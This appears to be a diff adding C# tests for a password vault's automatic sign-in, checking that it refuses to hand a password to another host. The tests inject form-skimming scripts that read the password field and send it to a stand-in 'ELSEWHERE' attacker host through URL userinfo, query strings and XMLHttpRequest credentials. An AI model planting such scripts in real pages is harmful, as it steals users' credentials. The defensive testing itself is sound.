@@ -140,6 +140,105 @@ public sealed class SentElsewhereTests(ITestOutputHelper output)
         Assert.DoesNotContain("@", result.Trace.StoppedAt, StringComparison.Ordinal);
     }
 
+    [Theory]
+    [InlineData("location = `http://x:${encodeURIComponent(value)}@ELSEWHERE/got`")]
+    [InlineData("location = `http://${location.host}:x@ELSEWHERE/got?${encodeURIComponent(value)}`")]
+    public async Task A_name_and_a_password_before_a_host_lead_no_password_to_somebody_else(string script)
+    {
+        await using var vault = await OwnersVault.CreateAsync();
+        await using var evil = await ElsewhereAsync();
+        var sending = $"<script>addEventListener('submit', (event) => {{ event.preventDefault(); const {{ value }} = event.target.elements.password; {script.Replace("ELSEWHERE", evil.Address.Authority, StringComparison.Ordinal)}; }})</script>";
+        await using var site = await SmallSite.StartAsync("shop", pages => pages.MapGet("/", () => SmallSite.Page(SmallSite.Form() + sending)));
+
+        var result = await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output));
+
+        Assert.Equal(Outcome.NeedsOwner(Reason.SentElsewhere), result.Outcome);
+        Assert.Equal(evil.Origin, result.Trace.StoppedAt);
+        Assert.DoesNotContain(evil.Asked, asked => asked.Contains("/got", StringComparison.Ordinal));
+    }
+
+    [Theory]
+    [InlineData("open('GET', 'http://ELSEWHERE/asks', true, 'x', value)")]
+    [InlineData("open('GET', `http://${location.host}@ELSEWHERE/asks?${encodeURIComponent(value)}`)")]
+    public async Task A_request_of_a_script_gives_nobody_else_a_name_and_a_password_that_it_was_opened_with(string open)
+    {
+        await using var vault = await OwnersVault.CreateAsync();
+        await using var evil = await SmallSite.StartAsync("elsewhere", pages => pages.MapMethods("/asks", ["GET", "POST", "OPTIONS"], (HttpContext context) =>
+        {
+            Allow(context);
+            context.Response.Headers.AccessControlAllowOrigin = context.Request.Headers.Origin;
+            context.Response.Headers.AccessControlAllowCredentials = "true";
+            return new HttpLock("Basic", "Elsewhere", "").Ask(context.Response);
+        }));
+        var sending = $$"""
+            <script>
+            addEventListener("submit", (event) => {
+              event.preventDefault();
+              const { value } = event.target.elements.password;
+              for (const withCredentials of [false, true]) {
+                const request = new XMLHttpRequest();
+                request.{{open.Replace("ELSEWHERE", evil.Address.Authority, StringComparison.Ordinal)}};
+                request.withCredentials = withCredentials;
+                request.send();
+              }
+            });
+            </script>
+            """;
+        await using var site = await SmallSite.StartAsync("shop", pages => pages.MapGet("/", () => SmallSite.Page(SmallSite.Form() + sending)));
+
+        await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output));
+
+        Assert.DoesNotContain(evil.Requests, headers => headers.ContainsKey("Authorization"));
+        Assert.DoesNotContain(evil.Asked, asked => asked.Contains('?', StringComparison.Ordinal));
+    }
+
+    [Theory]
+    [InlineData("PROPFIND", false)]
+    [InlineData("PROPFIND", true)]
+    [InlineData("GET", false)]
+    [InlineData("GET", true)]
+    public async Task A_script_of_the_site_can_give_the_site_name_and_password_before_its_host(string method, bool isMistyped)
+    {
+        const string Opening = """
+            <script>
+            addEventListener("submit", (event) => {
+              event.preventDefault();
+              const { email, password } = event.target.elements;
+              const request = new XMLHttpRequest();
+              request.open("METHOD", "/session", true, email.value, password.value);
+              request.onload = () => {
+                if (request.status === 204) return location.reload();
+                password.value = "";
+                document.body.append("Error: " + request.status);
+              };
+              request.send();
+            });
+            </script>
+            """;
+        await using var vault = await OwnersVault.CreateAsync();
+        var door = new HttpLock("Basic", "Desk", isMistyped ? "another one" : vault.Password);
+        await using var site = await SmallSite.StartAsync("shop", pages =>
+        {
+            pages.MapGet("/", (HttpRequest request) => SmallSite.Page(request.Cookies.ContainsKey("session") ? SmallSite.Inside : SmallSite.Form() + Opening.Replace("METHOD", method, StringComparison.Ordinal)));
+            pages.MapMethods("/session", [method], (HttpContext context) =>
+            {
+                if (!door.Opens(context.Request))
+                {
+                    return door.Ask(context.Response);
+                }
+
+                context.Response.Cookies.Append("session", "1");
+                return Results.NoContent();
+            });
+        });
+
+        var result = await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output));
+
+        Assert.Equal(isMistyped ? Outcome.PasswordRejected : Outcome.SignedIn, result.Outcome);
+        Assert.Null(result.Trace.StoppedAt);
+        Assert.Equal([!isMistyped], door.Answers);
+    }
+
     [Fact]
     public async Task A_script_of_the_site_can_send_the_password_to_whom_the_owner_has_named()
     {
